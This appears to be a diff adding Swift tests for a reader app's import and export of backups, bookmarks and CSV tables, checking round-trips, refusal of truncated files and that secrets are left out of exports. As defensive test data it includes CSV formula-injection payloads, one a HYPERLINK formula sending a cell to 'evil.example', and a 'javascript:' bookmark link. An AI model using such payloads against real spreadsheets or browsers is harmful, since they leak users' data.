@@ -1,0 +1,198 @@
+import Downloads
+import FoundationEssentials
+import Snapshots
+import Testing
+import Transfer
+import WHATWGURL
+
+@testable import ImportExport
+
+@Suite("What leaves and comes back")
+struct ImportExportTests {
+    private let hostile = "a \"quoted\", <b>&amp; word\r\nand a line; =1+1"
+
+    private func place(_ id: String = "000000000001") throws -> StoredSnapshot {
+        let snapshot = try PageSnapshot(
+            value: .object([
+                "url": .string("https://example.org/a?x=1&y=<2>"), "title": .string(hostile),
+                "capturedAt": .string("2026-03-01T12:30:00Z"), "unknown": .array([.null, .number(1.5)]),
+                "anchors": .array([
+                    .object(["role": .string("primary"), "quote": .object(["exact": .string(hostile)])])
+                ]),
+            ]))
+        return StoredSnapshot(
+            id: id, snapshot: snapshot, storedAt: Date(timeIntervalSince1970: 1_772_368_200.25), position: 3,
+            marks: try SnapshotMarks(tags: ["to read", "Swift"], note: "one\ntwo & <three>"), version: 2)
+    }
+
+    private func item() throws -> QueueItem {
+        var request = NewQueueItem(
+            url: try #require(WebURL("https://me:secret@example.org/f.bin")), directory: "/tmp/x", name: "f.bin",
+            checksum: try Checksum("md5=\(String(repeating: "0a", count: 16))"),
+            referer: "https://me:secret@example.org/", headers: [.init(name: "X-Key", value: "topsecret")],
+            priority: 5)
+        request.suggestedName = "g.bin"
+        request.userAgent = "Reader/1"
+        request.proxy = "http://me:secret@proxy.example:1"
+        request.netrcPath = "/home/secret/netrc"
+        request.cookiesPath = "/home/secret/cookies"
+        request.snapshot = "000000000001"
+        request.startAt = Date(timeIntervalSince1970: 1_900_000_000)
+        return QueueItem(id: "00000000000a", request: request, addedAt: Date(timeIntervalSince1970: 1_772_368_200))
+    }
+
+    private func backup(_ items: [QueueItem], hasCredentials: Bool) throws -> [UInt8] {
+        var bytes = Backup.opening(at: Date(timeIntervalSince1970: 0))
+        bytes += Backup.entry(try place(), isFirst: true) + Backup.entry(try place("000000000002"), isFirst: false)
+        bytes += Backup.middle
+        for (index, item) in items.enumerated() {
+            bytes += Backup.entry(item, isFirst: index == 0, hasCredentials: hasCredentials) ?? []
+        }
+        return bytes + Backup.closing
+    }
+
+    @Test("A backup comes back whole, one entry a line")
+    func backup() throws {
+        var paused = try item()
+        paused.state = .paused
+        var done = try item()
+        done.state = .done
+        let bytes = try backup([paused, done], hasCredentials: true)
+        #expect(bytes.split(separator: UInt8(ascii: "\n")).count == 7)
+        #expect(ImportExportFormat.sniff(bytes) == .json)
+        let contents = try BackupContents(bytes)
+        let first = try #require(contents.places.first)
+        let original = try place()
+        #expect(first.id == original.id && first.snapshot == original.snapshot && first.marks == original.marks)
+        #expect(first.storedAt == original.storedAt)
+        #expect(contents.places.count == 2 && contents.finishedCount == 1)
+        let download = try #require(contents.downloads.first)
+        #expect(download.isPaused && download.item == paused.request)
+    }
+
+    @Test("Without being asked for, no secret leaves")
+    func credentials() throws {
+        let text = String(decoding: try backup([try item()], hasCredentials: false), as: UTF8.self)
+        #expect(text.contains("https://example.org/f.bin"))
+        for secret in ["secret", "topsecret", "me:"] { #expect(!text.contains(secret)) }
+        let download = try #require(try BackupContents(Array(text.utf8)).downloads.first).item
+        let original = try item().request
+        #expect(download.referer == "https://example.org/" && download.startAt == original.startAt)
+    }
+
+    @Test("Bookmarks come back with times, tags and notes")
+    func bookmarks() throws {
+        let bytes =
+            BookmarksFile.opening + BookmarksFile.entry(try place(), address: "https://example.org/a?x=1&y=2#:~:text=a")
+            + BookmarksFile.closing
+        #expect(ImportExportFormat.sniff(bytes) == .bookmarks)
+        let place = try #require(try BackupContents(bytes).newPlaces.first)
+        #expect(place.snapshot.url.href == "https://example.org/a?x=1&y=2#:~:text=a")
+        #expect(place.marks.tags == ["to read", "Swift"])
+        #expect(place.marks.note == "one\ntwo & <three>")
+        #expect(place.snapshot.capturedAt == Date(timeIntervalSince1970: 1_772_368_200))
+        #expect(place.snapshot.title == "a \"quoted\", <b>&amp; word\nand a line; =1+1")
+    }
+
+    @Test("Bookmarks of browsers are read, folders and scripts passed over")
+    func browserBookmarks() throws {
+        let text = """
+            <!DOCTYPE NETSCAPE-Bookmark-file-1>
+            <DL><p><DT><H3 ADD_DATE="1">Folder</H3><DL><p>
+            <DT><A HREF="https://example.org/?a=1&amp;b=2" ADD_DATE="1700000000" ICON="data:image/png;base64,x>y">One &#8212; <b>x</A>
+            <DT><a href='https://example.org/two' tags="a,b">Two</a><DD>A note
+            <DT><A HREF="javascript:alert(1)">Bad</A><DT><A HREF="place:sort=8">Query</A>
+            </DL></DL>
+            """
+        let contents = try BackupContents(Array(text.utf8))
+        #expect(
+            contents.newPlaces.map(\.snapshot.url.href) == ["https://example.org/?a=1&b=2", "https://example.org/two"])
+        #expect(contents.newPlaces[1].marks.tags == ["a", "b"] && contents.newPlaces[1].marks.note == "A note")
+    }
+
+    @Test("A table of quotes comes back, also with other columns")
+    func table() throws {
+        let bytes = CSVFile.opening + CSVFile.row(try place())
+        #expect(ImportExportFormat.sniff(bytes) == .csv)
+        let back = try #require(try BackupContents(bytes).newPlaces.first)
+        #expect(back.snapshot.quotes == [hostile] && back.snapshot.title == hostile)
+        #expect(back.marks == (try place()).marks)
+        let other = "\u{FEFF}\"Book Title\",url,Highlight\nT,https://example.org/,\"q \"\"x\"\"\nline\"\n,nonsense,\n"
+        let contents = try BackupContents(Array(other.utf8))
+        #expect(contents.newPlaces.count == 1 && contents.omissions.count == 1)
+        #expect(contents.newPlaces[0].snapshot.quotes == ["q \"x\"\nline"])
+    }
+
+    @Test(
+        "No field of a table is a formula for a spreadsheet, and each comes back as it was",
+        arguments: [
+            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+            "＝1", "-",
+            "'=1", "''=1", "'tis", "''", "'", "a=1", "",
+        ])
+    func formulas(text: String) throws {
+        let snapshot = try PageSnapshot(
+            value: .object([
+                "url": .string("https://example.org/"), "title": .string(text),
+                "anchors": .array([.object(["role": .string("primary"), "quote": .object(["exact": .string(text)])])]),
+            ]))
+        let place = StoredSnapshot(
+            id: "000000000001", snapshot: snapshot, storedAt: Date(timeIntervalSince1970: 0),
+            marks: try SnapshotMarks(tags: [], note: text))
+        let bytes = CSVFile.opening + CSVFile.row(place)
+        for field in try CSVFile.read(String(decoding: bytes, as: UTF8.self)).joined() {
+            #expect(
+                field.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true, "\(field)")
+        }
+        let back = try #require(try BackupContents(bytes).newPlaces.first)
+        #expect(back.snapshot.title ?? "" == text && back.marks.note == place.marks.note)
+        #expect(back.snapshot.quotes == place.snapshot.quotes)
+    }
+
+    @Test(
+        "A table or a file of bookmarks that was cut off is refused whole",
+        arguments: [
+            "URL,Title\nhttps://a.example/,One\nhttps://b.example/,\"Tw", "URL,Title\nhttps://a.example/,\"",
+            "URL,Note\nhttps://a.example/,\"he said \"\"yes\"\"",
+            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A><DT><A HREF=\"https://b.exa",
+            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A><DT><A HREF=\"https://b.example/\">Tw",
+            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A",
+        ])
+    func cutOff(text: String) {
+        let error = #expect(throws: ImportExportError.self) { try BackupContents(Array(text.utf8)) }
+        #expect(error?.description.hasSuffix("its end is missing") == true)
+    }
+
+    @Test(
+        "A quotation mark that is closed at the very end, and a title without an end tag before another, are whole",
+        arguments: [
+            ("URL,Title\nhttps://a.example/,\"One\"", 1), ("URL,Title\nhttps://a.example/,a \" mark", 1),
+            (
+                "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"https://a.example/\">One"
+                    + "<DT><A HREF=\"https://b.example/\">Two</DL>", 2
+            ),
+        ])
+    func whole(text: String, count: Int) throws {
+        #expect(try BackupContents(Array(text.utf8)).newPlaces.count == count)
+    }
+
+    @Test(
+        "What is none of these is refused with its reason",
+        arguments: [
+            "", "hello", "{}", "[1]", "{\"leftoff\":99}", "{\"leftoff\":1,\"places\":[{}]}",
+            "{\"leftoff\":1,\"queue\":[{\"url\":\"javascript:x\",\"state\":\"ready\"}]}", "{\"leftoff\":1",
+            "{\"leftoff\":1,\"places\":{}}", "{\"leftoff\":1,\"queue\":7}", "{\"leftoff\":1,\"queue\":[7]}",
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","state":"odd"}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"javascript:x","directory":"/d","state":"done"}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","priority":"1"}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","name":["x"]}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","headers":["X: 1",2]}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"d"}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","startAt":"soon"}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","headers":[{"name":"Range","value":"bytes=1-"}]}]}"#,
+            #"{"leftoff":1,"queue":[{"url":"https://a.example/","directory":"/d","referer":"a\nb"}]}"#,
+        ])
+    func refused(text: String) {
+        #expect(throws: ImportExportError.self) { try BackupContents(Array(text.utf8)) }
+    }
+}
